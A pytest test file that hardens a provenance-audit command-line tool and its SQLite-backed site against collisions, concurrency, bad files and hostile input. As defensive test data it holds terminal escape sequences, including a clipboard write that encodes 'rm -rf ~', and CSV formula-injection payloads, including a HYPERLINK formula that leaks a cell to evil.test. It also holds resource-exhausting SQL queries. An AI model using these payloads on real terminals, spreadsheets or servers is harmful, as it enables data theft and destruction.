"""Hardening, through the real command line (a subprocess running ``python -m audit.cli``):
no silent overwrite of an article from another input, safe concurrent use of one database,
another program's database refused untouched, read-only databases readable, one clear line
instead of a traceback, terminal-safe ``audit show``, formula-safe CSV, a page with a charset
that cannot decode text, and a site whose visitors cannot run their own SQL unless allowed."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import resource
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
SEED = "000_c3e996ea259f14b0.txt"
NEW_TEXT = (
    "The harbour reopened on Monday after a week of repairs, the port authority said.\n\n"
    "Fishermen welcomed the news, according to a local association."
)


# Root may write any file whatever its mode: the read-only tests run root's commands without
# capabilities, so that file permissions hold for it as for anyone.
UNPRIVILEGED = ["setpriv", "--inh-caps=-all", "--bounding-set=-all"] if os.geteuid() == 0 else []


def cli(
    *args: str, cwd: Path = REPO, prefix: list[str] | None = None, **kwargs: object
) -> subprocess.CompletedProcess[str]:
    if "stdout" not in kwargs:
        kwargs["capture_output"] = True
    return subprocess.run(
        [*(prefix or []), sys.executable, "-m", "audit.cli", *args],
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=300,
        cwd=cwd,
        **kwargs,  # type: ignore[arg-type]
    )


def one_clear_line(result: subprocess.CompletedProcess[str], *words: str) -> None:
    """Exit status 2, and standard error is one line starting ``error:`` holding ``words``."""
    err = result.stderr.strip()
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert len(err.splitlines()) == 1, err
    assert err.startswith("error: "), err
    for word in words:
        assert word in err, err


def copy_db(src: Path, dst: Path) -> Path:
    """A private copy of a database (the SQLite backup API: the copy is whole even in WAL mode)."""
    a, b = sqlite3.connect(src), sqlite3.connect(dst)
    try:
        a.backup(b)
    finally:
        a.close()
        b.close()
    return dst


def articles(db: Path) -> dict[str, tuple[str, str]]:
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return {r[0]: (r[1], r[2]) for r in con.execute("select article_id, origin, text from articles")}
    finally:
        con.close()


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def jsonl(path: Path, *records: dict) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


# --------------------------------------------------------------------------- id collisions


@pytest.fixture
def seeds_copy(seeds_db: Path, tmp_path: Path) -> Path:
    return copy_db(seeds_db, tmp_path / "seeds.db")


@pytest.mark.parametrize(
    "given_id",
    [
        SEED,  # a JSONL line takes the id of an article read from a file
        f"  {SEED}\t",  # the same id once its whitespace is trimmed
        7,
    ],
)
def test_jsonl_id_of_an_article_from_another_input_is_refused(
    seeds_copy: Path, tmp_path: Path, given_id: object
) -> None:
    article_id = str(given_id).strip()
    if article_id == "7":  # a whole-number id against an article stored from another JSONL file
        first = cli(
            "run", "-q", str(jsonl(tmp_path / "first.jsonl", {"id": 7, "text": NEW_TEXT})), "--db", str(seeds_copy)
        )
        assert first.returncode == 0, first.stderr
    before = articles(seeds_copy)
    batch = jsonl(tmp_path / "batch.jsonl", {"id": given_id, "text": "Replaced, an official said."})
    result = cli("run", "-q", str(batch), "--db", str(seeds_copy))
    assert result.returncode == 1, result.stderr
    assert f"id {article_id!r} already holds the article read from" in result.stderr
    assert "--force" in result.stderr
    assert "Traceback" not in result.stderr
    assert articles(seeds_copy) == before  # nothing replaced
    con = sqlite3.connect(seeds_copy)
    try:
        (reason,) = con.execute("select reason from errors where article_id = ?", [article_id]).fetchone()
    finally:
        con.close()
    assert "already holds" in reason


def test_file_after_jsonl_with_its_id_is_refused(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    assert (
        cli(
            "run", "-q", str(jsonl(tmp_path / "b.jsonl", {"id": "story.txt", "text": NEW_TEXT})), "--db", str(db)
        ).returncode
        == 0
    )
    story = tmp_path / "story.txt"
    story.write_text("Another story altogether, the minister said on Friday.\n", encoding="utf-8")
    result = cli("run", "-q", str(story), "--db", str(db))
    assert result.returncode == 1
    assert "already holds the article read from" in result.stderr
    assert articles(db)["story.txt"][1] == NEW_TEXT
    forced = cli("run", "-q", str(story), "--db", str(db), "--force")
    assert forced.returncode == 0, forced.stderr
    assert articles(db)["story.txt"][1].startswith("Another story")


def test_same_jsonl_file_edited_is_an_update_not_a_collision(tmp_path: Path) -> None:
    """Lines moved within one file (a line added above) keep updating their own articles."""
    db = tmp_path / "e.db"
    batch = jsonl(tmp_path / "feed.jsonl", {"id": "a", "text": NEW_TEXT})
    assert cli("run", "-q", str(batch), "--db", str(db)).returncode == 0
    jsonl(
        batch, {"id": "b", "text": "A new first line, the council said."}, {"id": "a", "text": NEW_TEXT + " Updated."}
    )
    result = cli("run", "-q", str(batch), "--db", str(db))
    assert result.returncode == 0, result.stderr
    assert articles(db)["a"][1].endswith("Updated.")


# --------------------------------------------------------------------------- concurrency


def test_two_writers_and_readers_on_one_new_database(tmp_path: Path) -> None:
    """Two ``audit run`` into one new database, with ``export`` and ``show`` reading meanwhile,
    repeated: nobody ever fails with "locked", no run is lost."""
    batches = []
    for w in range(2):
        batches.append(
            jsonl(
                tmp_path / f"w{w}.jsonl",
                *(
                    {"id": f"w{w}-{i}", "text": f"{NEW_TEXT}\n\nItem {i} of writer {w} was counted, the clerk said."}
                    for i in range(12)
                ),
                {"id": "shared", "text": f"Writer {w} wrote this one, the clerk said."},
            )
        )
    for round_ in range(3):
        db = tmp_path / f"c{round_}.db"
        cmd = [sys.executable, "-m", "audit.cli"]
        writers = [
            subprocess.Popen(
                [*cmd, "run", "-q", str(b), "--db", str(db)],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                stdin=subprocess.DEVNULL,
                text=True,
                cwd=REPO,
            )
            for b in batches
        ]
        reads: list[subprocess.CompletedProcess[str]] = []
        while any(w.poll() is None for w in writers) or len(reads) < 2:
            if db.exists():
                reads.append(cli("export", "--db", str(db), "--format", "csv"))
                reads.append(cli("show", "w0-0", "--db", str(db)))
            else:
                time.sleep(0.05)
        outputs = [w.communicate(timeout=300) for w in writers]
        for _, err in outputs:
            assert "locked" not in err and "Traceback" not in err, err
        # "shared" comes from both batches: one run stores it, the other says so and keeps it
        codes = sorted((w.returncode, err) for w, (_, err) in zip(writers, outputs, strict=True))
        assert [c for c, _ in codes] == [0, 1], codes
        assert "id 'shared' already holds the article read from" in codes[1][1]
        for r in reads:
            assert "locked" not in r.stderr and "Traceback" not in r.stderr, r.stderr
            assert r.returncode in (0, 1, 2), r.stderr  # 1: that article is not stored yet; 2: no audit yet
        assert len(articles(db)) == 25


# --------------------------------------------------------------------------- other files as --db


def test_another_programs_database_is_refused_untouched(tmp_path: Path, seeds_dir: Path) -> None:
    other = tmp_path / "crm.db"
    con = sqlite3.connect(other)
    con.execute("create table articles (id integer primary key, headline text)")
    con.execute("insert into articles (headline) values ('keep me')")
    con.commit()
    con.close()
    digest = sha(other)
    for args in (
        ("run", "-q", str(seeds_dir / SEED)),
        ("export",),
        ("show", SEED),
        ("corroborate",),
        ("serve",),
    ):
        result = cli(*args, "--db", str(other))
        one_clear_line(result, "not a provenance-audit database", str(other))
        assert sha(other) == digest, f"{args[0]} changed the file"
        assert not Path(f"{other}-wal").exists()
    con = sqlite3.connect(other)
    try:
        assert con.execute("pragma journal_mode").fetchone()[0] == "delete"
        assert [r[0] for r in con.execute("select name from sqlite_master")] == ["articles"]
    finally:
        con.close()


def test_a_file_that_is_not_sqlite_is_refused_untouched(tmp_path: Path, seeds_dir: Path) -> None:
    notes = tmp_path / "notes.db"
    notes.write_text("shopping list: eggs, milk\n" * 200, encoding="utf-8")
    digest = sha(notes)
    for args in (("run", "-q", str(seeds_dir / SEED)), ("export",), ("show", SEED)):
        one_clear_line(cli(*args, "--db", str(notes)), "not a SQLite database", str(notes))
    assert sha(notes) == digest


@pytest.mark.parametrize("command", ["run", "export", "show"])
def test_bad_db_paths_give_one_line(tmp_path: Path, seeds_dir: Path, command: str) -> None:
    extra = {"run": ["-q", str(seeds_dir / SEED)], "export": [], "show": [SEED]}[command]
    one_clear_line(cli(command, *extra, "--db", str(tmp_path)), "directory")
    missing_dir = tmp_path / "no" / "such" / "dir" / "x.db"
    one_clear_line(cli(command, *extra, "--db", str(missing_dir)), str(missing_dir))


def test_bad_output_path_gives_one_line(seeds_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "missing-dir" / "out.csv"
    one_clear_line(cli("export", "--db", str(seeds_db), "--output", str(target)), "cannot write --output", str(target))
    one_clear_line(cli("export", "--db", str(seeds_db), "--output", str(tmp_path)), "cannot write --output")


# --------------------------------------------------------------------------- read-only databases


@pytest.fixture
def readonly_db(seeds_db: Path, tmp_path: Path) -> Iterator[Path]:
    """The seeds database, read-only, in a directory nobody may write."""
    if UNPRIVILEGED and shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: file permissions cannot hold")
    folder = tmp_path / "ro"
    folder.mkdir()
    db = copy_db(seeds_db, folder / "seeds.db")
    con = sqlite3.connect(db)
    con.execute("pragma journal_mode = wal").fetchall()
    con.close()  # a WAL database, its -wal and -shm gone: the hard case for a reader
    os.chmod(db, 0o444)
    os.chmod(folder, 0o555)
    try:
        yield db
    finally:
        os.chmod(folder, 0o755)


def test_readonly_database_serves_export_and_show(readonly_db: Path) -> None:
    db = readonly_db
    digest = sha(db)
    exported = cli("export", "--db", str(db), prefix=UNPRIVILEGED)
    assert exported.returncode == 0, exported.stderr
    assert len(exported.stdout.splitlines()) == 5
    shown = cli("show", SEED, "--db", str(db), prefix=UNPRIVILEGED)
    assert shown.returncode == 0, shown.stderr
    assert "source:" in shown.stdout
    as_csv = cli("export", "--db", str(db), "--format", "csv", prefix=UNPRIVILEGED)
    assert as_csv.returncode == 0, as_csv.stderr
    assert sha(db) == digest


def test_readonly_database_refuses_a_run_in_one_line(readonly_db: Path, tmp_path: Path) -> None:
    db = readonly_db
    text = tmp_path / "new.txt"
    text.write_text(NEW_TEXT, encoding="utf-8")
    digest = sha(db)
    result = cli("run", "-q", str(text), "--db", str(db), prefix=UNPRIVILEGED)
    one_clear_line(result, "read-only", str(db))
    one_clear_line(cli("corroborate", "--db", str(db), prefix=UNPRIVILEGED), str(db))
    assert sha(db) == digest


@pytest.mark.parametrize("live", [False, True])
def test_readonly_database_is_served(readonly_db: Path, live: bool) -> None:
    with serving(readonly_db, prefix=UNPRIVILEGED, live=live) as base:
        status, body = fetch(f"{base}/seeds/articles.json?_shape=array")
        assert status == 200 and len(json.loads(body)) == 5


# --------------------------------------------------------------------------- a full disk


def test_full_disk_stops_the_run_in_one_line_and_keeps_what_was_stored(seeds_copy: Path, tmp_path: Path) -> None:
    """Files may not grow past a limit (RLIMIT_FSIZE): the write fails as on a full disk."""
    before = articles(seeds_copy)
    batch = jsonl(
        tmp_path / "big.jsonl",
        *({"id": f"big-{i}", "text": (NEW_TEXT + f" Count {i}.\n\n") * 40} for i in range(60)),
    )
    limit = seeds_copy.stat().st_size + 200_000

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    result = cli("run", "-q", str(batch), "--db", str(seeds_copy), preexec_fn=small_files)
    one_clear_line(result, "cannot write to database", "articles stored before this are kept")
    after = articles(seeds_copy)
    assert {k: v for k, v in after.items() if k in before} == before
    con = sqlite3.connect(seeds_copy)
    try:
        assert con.execute("pragma integrity_check").fetchone()[0] == "ok"
        for article_id in after:  # every stored article is whole
            n = con.execute("select claim_count from articles where article_id = ?", [article_id]).fetchone()[0]
            assert con.execute("select count(*) from claims where article_id = ?", [article_id]).fetchone()[0] == n
    finally:
        con.close()


# --------------------------------------------------------------------------- what reaches a terminal or a spreadsheet


ESCAPES = [
    "\x1b]0;you have been pwned\x07",  # OSC: the window title
    "\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52: the clipboard
    "\x1b[2J\x1b[H",  # CSI: clear the screen
    "\x9b31m",  # the one-byte CSI of C1
    "\u202e",  # right-to-left override
]


def test_show_prints_escape_sequences_as_text(tmp_path: Path) -> None:
    db = tmp_path / "esc.db"
    text = " ".join(f"Officials{esc} said the bridge{esc} would reopen on day {i}." for i, esc in enumerate(ESCAPES))
    batch = jsonl(tmp_path / "esc.jsonl", {"id": "esc", "title": f"Bridge{ESCAPES[0]} news", "text": text})
    assert cli("run", "-q", str(batch), "--db", str(db)).returncode == 0
    shown = cli("show", "esc", "--db", str(db))
    assert shown.returncode == 0, shown.stderr
    for ch in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert ch not in shown.stdout
    assert "\\x1b]0;you have been pwned\\x07" in shown.stdout
    assert "\\u202e" in shown.stdout


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3"],
)
def test_csv_export_neutralises_formulas(tmp_path: Path, formula: str) -> None:
    db = tmp_path / "f.db"
    text = f"{formula}\nThe council approved the budget, the mayor said."
    assert (
        cli("run", "-q", str(jsonl(tmp_path / "f.jsonl", {"id": "f", "text": text})), "--db", str(db)).returncode == 0
    )
    out = cli("export", "--db", str(db), "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    cells = [
        v
        for row in rows
        for k, v in row.items()
        if k
        not in (
            "content_start",
            "content_end",
            "source_start",
            "source_end",
            "cue_start",
            "cue_end",
            "score",
            "is_headline",
        )
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert any(c.startswith("'" + formula[:6]) for c in cells), cells
    numbers = [row["score"] for row in rows]
    assert all(n.lstrip("-").isdigit() for n in numbers)


# --------------------------------------------------------------------------- a charset that is no text encoding


@pytest.mark.parametrize("charset", ["rot13", "base64", "hex", "zlib", "uu"])
def test_page_declaring_a_codec_that_is_not_a_text_encoding(tmp_path: Path, seeds_dir: Path, charset: str) -> None:
    folder = tmp_path / "pages"
    folder.mkdir()
    shutil.copy(seeds_dir / SEED, folder / "a-good.txt")
    (folder / "b-bad.html").write_text(
        f'<html><head><meta charset="{charset}"><title>T</title></head><body><p>Caf\u00e9 news.</p></body></html>',
        encoding="latin-1",
    )
    shutil.copy(seeds_dir / SEED, folder / "c-good.txt")
    db = tmp_path / "cs.db"
    result = cli("run", "-q", str(folder), "--db", str(db))
    assert result.returncode == 1
    assert "b-bad.html" in result.stderr and "charset" in result.stderr, result.stderr
    assert "internal error" not in result.stderr
    assert sorted(articles(db)) == ["a-good.txt", "c-good.txt"]


# --------------------------------------------------------------------------- the site: visitors' own SQL


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def fetch(url: str) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


class serving:
    """``audit serve`` in a subprocess until the block ends."""

    def __init__(self, db: Path, *extra: str, prefix: list[str] | None = None, live: bool = False) -> None:
        self.port = free_port()
        args = ["serve", "--db", str(db), "--port", str(self.port), *extra, *(["--live"] if live else [])]
        self.proc = subprocess.Popen(
            [*(prefix or []), sys.executable, "-m", "audit.cli", *args],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            stdin=subprocess.DEVNULL,
            cwd=REPO,
        )

    def __enter__(self) -> str:
        base = f"http://127.0.0.1:{self.port}"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            assert self.proc.poll() is None, self.proc.stderr.read().decode()  # type: ignore[union-attr]
            try:
                fetch(f"{base}/-/versions.json")
                return base
            except OSError:
                time.sleep(0.2)
        raise AssertionError("the server did not start")

    def __exit__(self, *exc: object) -> None:
        self.proc.terminate()
        self.proc.wait(timeout=30)


def test_visitors_cannot_run_their_own_sql_by_default(seeds_copy: Path) -> None:
    with serving(seeds_copy) as base:
        status, body = fetch(f"{base}/seeds.json?sql=select+zeroblob(50000000)+as+b")
        assert status == 403 and len(body) < 100_000
        assert fetch(f"{base}/seeds/claims.json?_shape=array&kind=anonymous_vague")[0] == 200
        assert fetch(f"{base}/seeds/weakest_claims.json?_shape=array&outlet=TASS")[0] == 200
        assert fetch(f"{base}/seeds/articles.json?_shape=array&_search=Kremlin")[0] == 200


def test_allow_sql_lets_visitors_query_within_the_time_limit(seeds_copy: Path) -> None:
    with serving(seeds_copy, "--allow-sql", "--sql-time-limit", "200") as base:
        status, body = fetch(f"{base}/seeds.json?sql=select+count(*)+as+n+from+claims&_shape=array")
        assert status == 200 and json.loads(body)[0]["n"] > 50
        endless = "with+recursive+c(x)+as+(select+1+union+all+select+x%2B1+from+c)+select+count(*)+from+c"
        status, body = fetch(f"{base}/seeds.json?sql={endless}")
        assert status == 400 and b"interrupted" in body.lower()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize(
    "args",
    [["export", "--output", "/dev/full"], ["export", "--format", "csv"], ["show", SEED]],
)
def test_output_to_a_full_device_gives_one_line(seeds_db: Path, args: list[str]) -> None:
    with open("/dev/full", "w") as full:
        result = cli(*args, "--db", str(seeds_db), stdout=full, stderr=subprocess.PIPE)
    one_clear_line(result, "No space left on device")
